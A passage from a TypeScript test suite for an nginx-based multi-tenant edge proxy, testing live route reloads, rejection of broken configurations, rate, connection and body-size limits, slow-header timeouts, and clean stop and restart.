    await new Promise((r) => setTimeout(r, 150));
    routes.push({ tenant: `t${i}`, upstream: f.upB.url });
    await f.waf.setRoutes(routes);
    generations.add((await f.waf.status()).generation!);
  }
  await new Promise((r) => setTimeout(r, 300));
  stop = true;
  await Promise.all(workers);
  assert.deepEqual(failures, [], `failed requests during reloads (${ok} succeeded)`);
  assert.ok(ok >= 20, `enough traffic ran during the reloads (${ok})`);
  assert.equal(generations.size, 4);
  const t4 = await call({ edge: f.waf, host: `t4.${DOMAIN}`, path: "/new" });
  assert.equal(JSON.parse(t4.body).upstream, "B");
  await f.waf.setRoutes(routes.slice(0, 2));
  assert.equal((await call({ edge: f.waf, host: `t4.${DOMAIN}` })).status, 421, "a removed tenant is gone");
});

test("a broken rendered config is refused and the edge keeps serving the old one", async (t) => {
  const f = need(t);
  if (!f) return;
  const busy = createNetServer();
  const busyPort = await listenSomewhere(busy);
  let mode: "ok" | "syntax" | "bind" = "ok";
  const render = (cfg: EdgeConfig) => {
    const r = renderEdge(cfg);
    if (mode === "syntax")
      return { ...r, nginxConf: r.nginxConf.replace("http {", "http {\n  no_such_directive on;") };
    // Valid for `nginx -t` (which does not bind), refused by the reload itself.
    if (mode === "bind") {
      return {
        ...r,
        nginxConf: r.nginxConf.replace(
          /\}\n$/,
          `  server { listen 127.0.0.1:${busyPort}; return 204; }\n}\n`,
        ),
      };
    }
    return r;
  };
  // A second Edge object on the same state directory adopts the running master (no second nginx).
  const edge = new Edge({ ...f.wafOpts, render });
  try {
    const pidBefore = (await f.waf.status()).pid;
    await edge.start();
    assert.equal((await edge.status()).pid, pidBefore, "adopted, not restarted");
    const confFile = join(f.dir, "waf", "conf", "nginx.conf");
    const withCarol = [...edge.routes, { tenant: "carol", upstream: f.upB.url }];

    for (const m of ["syntax", "bind"] as const) {
      mode = m;
      const confBefore = await readFile(confFile, "utf8");
      const genBefore = (await edge.status()).generation;
      await assert.rejects(edge.setRoutes(withCarol), (e: unknown) => {
        assert.ok(e instanceof EdgeConfigError, String(e));
        assert.match(
          String(e.details?.nginx),
          m === "syntax" ? /no_such_directive/ : /bind\(\)|Address already in use/,
        );
        return true;
      });
      assert.equal(await readFile(confFile, "utf8"), confBefore, `${m}: the previous config is back on disk`);
      assert.equal((await edge.status()).generation, genBefore, `${m}: the previous config still serves`);
      assert.equal((await call({ edge, host: `alice.${DOMAIN}` })).status, 200, `${m}: alice still served`);
      assert.equal((await call({ edge, host: `carol.${DOMAIN}` })).status, 421, `${m}: carol never arrived`);
    }
    // Control: the same change with a good rendering goes through.
    mode = "ok";
    await edge.setRoutes(withCarol);
    assert.equal((await call({ edge, host: `carol.${DOMAIN}` })).status, 200);
    await edge.setRoutes(withCarol.filter((r) => r.tenant !== "carol"));
  } finally {
    await close(busy);
  }
});

test("rate and connection limits answer 429 per client and per tenant; bodies over the limit 413; slow headers time out", async (t) => {
  const f = need(t);
  if (!f) return;
  const e = f.plain;

  // Per client: one address, sequential requests on one connection, far over 5 r/s + burst 5.
  const agent = new Agent({ keepAlive: true, maxSockets: 1 });
  const statuses: number[] = [];
  for (let i = 0; i < 20; i++) {
    statuses.push(
      (await call({ edge: e, host: `alice.${DOMAIN}`, localAddress: "127.0.0.11", agent })).status,
    );
  }
  agent.destroy();
  assert.ok(statuses.filter((s) => s === 429).length >= 5, `per-client rate: ${statuses.join(" ")}`);
  assert.ok(statuses.filter((s) => s === 200).length >= 5, `the burst passes: ${statuses.join(" ")}`);
  assert.equal(
    (await call({ edge: e, host: `alice.${DOMAIN}`, localAddress: "127.0.0.12" })).status,
    200,
    "another client is not limited",
  );

  // Per tenant: 8 clients, 3 requests each (within their own budget), all for bob: over 10 r/s + burst 10.
  const perTenant = await Promise.all(
    Array.from({ length: 8 }, async (_, i) => {
      const a = new Agent({ keepAlive: true, maxSockets: 1 });
      const out: number[] = [];
      for (let j = 0; j < 3; j++) {
        out.push(
          (await call({ edge: e, host: `bob.${DOMAIN}`, localAddress: `127.0.0.${21 + i}`, agent: a }))
            .status,
        );
      }
      a.destroy();
      return out;
    }),
  );
  const flat = perTenant.flat();
  assert.ok(flat.includes(429), `per-tenant rate: ${flat.join(" ")}`);
  assert.equal(
    (await call({ edge: e, host: `carol.${DOMAIN}`, localAddress: "127.0.0.40" })).status,
    200,
    "another tenant is not limited",
  );

  // Connections: 2 at a time per client; the third and fourth slow request are refused.
  const slow = await Promise.all(
    Array.from({ length: 4 }, () =>
      call({ edge: e, host: `alice.${DOMAIN}`, path: "/slow", localAddress: "127.0.0.50" }),
    ),
  );
  const slowStatuses = slow.map((r) => r.status).sort();
  assert.deepEqual(slowStatuses, [200, 200, 429, 429], `connection limit: ${slowStatuses.join(" ")}`);

  await eventsWhen(e, "alice", (xs) => xs.some((x) => x.kind === "connections"));
  const kinds = new Set(
    [...(await e.blockedEvents("alice")), ...(await e.blockedEvents("bob"))].map((x) => x.kind),
  );
  assert.ok(
    kinds.has("rate") && kinds.has("connections"),
    `limit events logged per tenant: ${[...kinds].join(",")}`,
  );
  assert.ok((await e.blockedEvents("bob")).every((x) => x.tenant === "bob" && x.status === 429));

  // Body size: 64 KiB allowed.
  const post = (kib: number, localAddress: string) =>
    call({
      edge: e,
      host: `alice.${DOMAIN}`,
      method: "POST",
      body: Buffer.alloc(kib * 1024, 97),
      localAddress,
    });
  assert.equal((await post(100, "127.0.0.60")).status, 413);
  assert.equal((await post(10, "127.0.0.61")).status, 200);

  // Slow client: a request header that never ends is cut off after the 1 s header timeout.
  const started = Date.now();
  const closedAfter = await new Promise<number>((resolve, reject) => {
    const raw = netConnect({ host: "127.0.0.1", port: e.listen.port, localAddress: "127.0.0.62" });
    const s = tlsConnect({ socket: raw, servername: `alice.${DOMAIN}`, ca: caPem }, () =>
      s.write(`GET / HTTP/1.1\r\nHost: alice.${DOMAIN}\r\nX-Slow: `),
    );
    s.on("data", () => {});
    s.on("close", () => resolve(Date.now() - started));
    s.on("error", () => {});
    setTimeout(() => {
      s.destroy();
      reject(new Error("the edge kept a slow client open for 10 s"));
    }, 10_000);
  });
  assert.ok(closedAfter >= 800 && closedAfter < 6000, `closed after ${closedAfter} ms`);
});

test("stop is idempotent and leaves no nginx behind; start again adopts nothing and serves the saved routes", async (t) => {
  const f = need(t);
  if (!f) return;
  const { pid, workers } = await f.plain.status();
  await f.plain.stop();
  await f.plain.stop();
  assert.equal(await procInfo(pid!), undefined);
  for (const w of workers) assert.equal(await procInfo(w.pid), undefined, `worker ${w.pid} is gone`);
  assert.equal((await f.plain.status()).running, false);
  const again = new Edge({
    stateDir: join(f.dir, "plain"),
    domain: DOMAIN,
    listen: f.plain.listen,
    tls: {
      certFile: join(f.dir, "waf", "certs", "edge.crt"),
      keyFile: join(f.dir, "waf", "certs", "edge.key"),
    },
    waf: false,
    user: EDGE_USER,
  });
  cleanups.push(() => again.stop());
  await again.start();
  assert.deepEqual(
    again.routes.map((r) => r.tenant),
    ["alice", "bob", "carol"],
  );
  assert.equal(
    (await call({ edge: again, host: `carol.${DOMAIN}`, localAddress: "127.0.0.90" })).status,
    200,
  );
  await again.stop();
});
